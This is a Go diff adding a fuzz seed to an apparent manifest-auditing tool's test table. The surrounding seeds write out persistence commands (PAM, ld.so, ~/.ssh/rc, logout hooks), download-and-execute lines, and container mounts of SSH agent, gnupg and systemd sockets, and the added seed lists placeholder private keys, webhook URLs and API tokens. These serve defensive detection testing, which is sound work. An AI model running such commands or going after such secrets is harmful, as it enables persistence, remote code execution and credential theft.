@@ -381,6 +381,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "defaults write com.apple.loginwindow LogoutHook /a; cp b /etc/periodic/daily/; cp c /etc/emond.d/rules; tee -a /etc/update-motd.d/d; cp e /etc/udev/rules.d/; cp f /etc/NetworkManager/dispatcher.d/; cp g /etc/apt/apt.conf.d/; cp h /etc/pam.d/; cp i /etc/ld.so.conf.d/; echo j >> ~/.ssh/rc; cp k ~/.config/fish/conf.d/; cp l ~/.jupyter/jupyter_lab_config.py; cp m ~/.docker/cli-plugins/; cp n /usr/share/dbus-1/services/; cp o /srv/init/p"},
 	{"sh", "-c", "wcurl https://a/b.sh && sh b.sh; wcurl -o c http://d && ./c; wcurl --output=/usr/local/bin/e https://f && e; wcurl -O; wcurl --curl-options; wcurl --curl-options='-k' https://g/ https://h/i.tgz && tar xf i.tgz && ./i/j"},
 	{"podman", "run", "-v", "/run/systemd/private:/a", "-v", "${XDG_RUNTIME_DIR}", "-v", "$XDG_RUNTIME_DIR/wayland-1:/b:ro", "-v", "/run/user/$UID/bus:/c", "-v", "/sys/fs/cgroup:/d:ro,z", "-v", "/sys/fs/cgroup", "-v", "$SSH_AUTH_SOCK:/e", "-v", "/tmp/ssh-x/agent.1:/f", "-v", "/run/user/1/gnupg:/g", "--mount", "type=bind,src=/var/run/libvirt/libvirt-sock,dst=/h", "i:1"},
+	{"srv", "-----BEGIN RSA PRIVATE KEY-----MIIEowIBAAKCAQEA1234567890", "https://hooks.slack.com/services/T01ABCDEF/B02GHIJKL/aB3dE5fG7hI9jK1lM3nO5pQ7", "https://discord.com/api/webhooks/123456789012345678/x", "AccountKey=aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5zA7bC9dE1f+/==", "SharedAccessKey=", "1234567890:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1:", "figd_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3", "tskey-api-x"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
